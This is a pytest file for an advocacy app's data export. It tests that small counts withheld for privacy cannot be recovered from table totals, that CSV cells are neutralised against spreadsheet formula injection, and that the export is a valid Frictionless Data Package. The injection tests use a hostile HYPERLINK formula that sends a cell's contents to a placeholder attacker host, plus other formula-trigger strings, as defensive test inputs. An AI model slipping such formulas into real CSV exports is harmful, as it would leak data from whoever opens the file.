"""Disclosure control that holds: no withheld count can be worked out from the totals of any table the
dashboard, a report or the export shows; every CSV cell is safe to open in a spreadsheet; the export is a
Frictionless Data Package that the ``frictionless`` library validates."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date

import pytest
from frictionless import Package, system

from advocate_app import db
from advocate_app.directory.models import Organisation, Service
from advocate_app.evidence import disclosure, export, queries, tables
from advocate_app.evidence.disclosure import Relation, Table, protect, recoverable
from advocate_app.evidence.period import Period
from advocate_app.spreadsheets import csv_text, neutralise
from tests.test_evidence import PERIOD, TODAY, build_world
from tests.test_evidence_export import KEY


def subtract_until_stuck(table: Table, protected: disclosure.Protected) -> set:
    """What an attacker recovers by subtraction alone: any sum with one unknown cell gives it away; repeat."""
    known = {cell: value for cell, value in table.values.items() if cell not in protected.withheld}
    known = {cell: value for cell, value in known.items() if cell not in table.unshown}
    recovered = set()
    progress = True
    while progress:
        progress = False
        for relation in table.relations:
            unknown = [c for c in relation.cells() if c not in known]
            if len(unknown) != 1:
                continue
            (cell,) = unknown
            parts = sum(known[p] for p in relation.parts if p in known)
            known[cell] = parts if cell == relation.total else known[relation.total] - parts
            recovered.add(cell)
            progress = True
    return recovered & protected.withheld


def assert_nothing_recoverable(table: Table, protected: disclosure.Protected) -> None:
    assert subtract_until_stuck(table, protected) == set()
    assert recoverable(table, protected) == set()  # nor by any mix of sums (linear algebra)
    for cell in protected.primary:
        assert cell in protected.withheld


def _grid(rows: list[list[int]]) -> Table:
    """A table with row totals, column totals and a grand total, as a dashboard table would show."""
    table = Table()
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            table.add((r, c), value)
        table.add((r, "total"), sum(row))
        table.sums((r, "total"), [(r, c) for c in range(len(row))])
    for c in range(len(rows[0])):
        table.add(("total", c), sum(row[c] for row in rows))
        table.sums(("total", c), [(r, c) for r in range(len(rows))])
    table.add(("total", "total"), sum(map(sum, rows)))
    table.sums(("total", "total"), [("total", c) for c in range(len(rows[0]))])
    table.sums(("total", "total"), [(r, "total") for r in range(len(rows))])
    return table


def test_primary_suppression_alone_leaks_a_small_count_through_its_total():
    table = _grid([[3, 20, 30], [12, 25, 40]])
    primary_only = disclosure.Protected(table.values, withheld={(0, 0)}, primary={(0, 0)})
    assert subtract_until_stuck(table, primary_only) == {(0, 0)}  # 53 - 20 - 30


@pytest.mark.parametrize(
    "rows",
    [
        [[3, 20, 30], [12, 25, 40]],
        [[1, 2, 30], [12, 25, 40], [7, 0, 9]],
        [[4, 0, 0], [0, 4, 0], [0, 0, 4]],
        [[1, 1], [1, 1]],
        [[2, 50, 50, 50], [50, 2, 50, 50], [50, 50, 50, 2]],
        [[0, 0], [0, 7]],
    ],
)
def test_complementary_suppression_leaves_nothing_to_recover_by_subtraction(rows):
    table = _grid(rows)
    protected = protect(table, 5)
    assert_nothing_recoverable(table, protected)
    assert all(table.values[cell] != 0 or cell not in protected.primary for cell in protected.withheld)


def test_cells_never_shown_count_as_unknown():
    table = Table()
    for cell, value in (("sent", 10), ("accepted", 3), ("declined", 5), ("withdrawn", 2)):
        table.add(cell, value)
    table.unshown.add("withdrawn")
    table.relations.append(Relation("sent", ("accepted", "declined", "withdrawn")))
    protected = protect(table, 5)
    # "accepted" is withheld; "withdrawn" is never shown, so nothing more is needed.
    assert protected.withheld == {"accepted"}
    assert_nothing_recoverable(table, protected)


@pytest.fixture
def world(app):
    return build_world()


def test_no_table_of_the_dashboard_or_export_gives_away_a_withheld_count(world, in_app):
    """The seeded partnership, at every small-number rule from 2 to 6: every table, every sum."""
    with in_app():
        for organisation_id in (None, world.north_org):
            scope = queries.Scope(people=queries.partnership_people(organisation_id), period=PERIOD, today=TODAY)
            figures = tables.figures_for(scope)
            for minimum in range(2, 7):
                table, protected = tables.protected(figures, minimum)
                assert protected.primary, "the seeded data should have small counts to withhold"
                assert_nothing_recoverable(table, protected)


def _read(data, name):
    return list(csv.DictReader(io.StringIO(data.text_of(name))))


def test_the_export_summary_files_cannot_be_unpicked_either(world, in_app):
    """Read back from the CSV files themselves: every sum an evaluator can make within a row."""
    with in_app():
        data = export.build(queries.Scope(people=None, period=PERIOD, today=TODAY), KEY)
    table, withheld = Table(), set()

    def cell(key, text):
        if text == export.SUPPRESSED:
            withheld.add(key)
            table.add(key, 0)
        else:
            table.add(key, int(text))
        return key

    for n, row in enumerate(_read(data, "referral_loop.csv")):
        declined = cell((n, "declined"), row["declined"])
        reasons = [cell((n, c), row[c]) for c in row if c.startswith("declined_")]
        table.relations.append(Relation(declined, tuple(reasons)))
    for n, row in enumerate(_read(data, "unmet_need.csv")):
        needs = cell(("unmet", n, "needs"), row["needs"])
        parts = (
            cell(("unmet", n, "with"), row["with_accepted_referral"]),
            cell(("unmet", n, "without"), row["without_accepted_referral"]),
        )
        table.relations.append(Relation(needs, parts))
    for n, row in enumerate(_read(data, "distance_travelled.csv")):
        people = cell(("d", n, "people"), row["people"])
        parts = tuple(cell(("d", n, c), row[c]) for c in ("better", "same", "worse"))
        table.relations.append(Relation(people, parts))
    assert withheld
    protected = disclosure.Protected(table.values, withheld=withheld, primary=set())
    assert subtract_until_stuck(table, protected) == set()


# CSV injection -----------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Housing advice")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_a_spreadsheet_would_run_is_written_as_text(text):
    assert neutralise(text) == "'" + text
    header, written = list(csv.reader(io.StringIO(csv_text(["name"], [[text]]), newline="")))
    assert header == ["name"] and written == ["'" + text]


def test_numbers_stay_numbers_and_ordinary_text_is_untouched():
    assert csv_text(["change", "name"], [[-2, "Tenancy help"], [1.5, "A-Z advice"]]) == (
        "change,name\r\n-2,Tenancy help\r\n1.5,A-Z advice\r\n"
    )


def test_a_service_renamed_to_a_formula_is_neutralised_in_the_export(world, in_app):
    with in_app():
        for service in db.session.query(Service).all():
            service.name = HOSTILE
        for organisation in db.session.query(Organisation).all():
            organisation.name = "@" + organisation.name
        db.session.commit()
        data = export.build(queries.Scope(people=None, period=PERIOD, today=TODAY), KEY)
    for name in data.names():
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(data.text_of(name))):
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
                assert not (value.startswith("-") and not _number(value)), (name, value)
    loop = _read(data, "referral_loop.csv")
    assert {row["service"] for row in loop} == {"'" + HOSTILE}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# The Frictionless Data Package ------------------------------------------------------------------


def _validate(folder) -> None:
    with system.use_context(trusted=True):
        report = Package(str(folder / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_the_export_is_a_valid_frictionless_data_package(world, in_app, tmp_path):
    with in_app():
        # Enough people that some values are shown rather than suppressed, and a hostile service name.
        db.session.query(Service).first().name = HOSTILE
        db.session.commit()
        data = export.build(
            queries.Scope(people=None, period=Period(date(2025, 1, 1), date(2026, 11, 1)), today=TODAY), KEY
        )
    data.write_folder(tmp_path)
    descriptor = json.loads((tmp_path / "datapackage.json").read_text())
    assert {r["path"] for r in descriptor["resources"]} == {n for n in data.names() if n.endswith(".csv")}
    people = next(r for r in descriptor["resources"] if r["path"] == "people.csv")
    assert people["schema"]["primaryKey"] == ["person"]
    person = next(f for f in people["schema"]["fields"] if f["name"] == "person")
    assert person["role"] == "pseudonymous key" and "HMAC-SHA256" in person["description"]
    assert "suppressed" in people["schema"]["missingValues"]
    _validate(tmp_path)


def test_the_zip_carries_the_package_descriptor(world, in_app):
    with in_app():
        data = export.build(queries.Scope(people=None, period=PERIOD, today=TODAY), KEY)
    archive = zipfile.ZipFile(io.BytesIO(data.zip_bytes()))
    assert f"{data.folder}/datapackage.json" in archive.namelist()
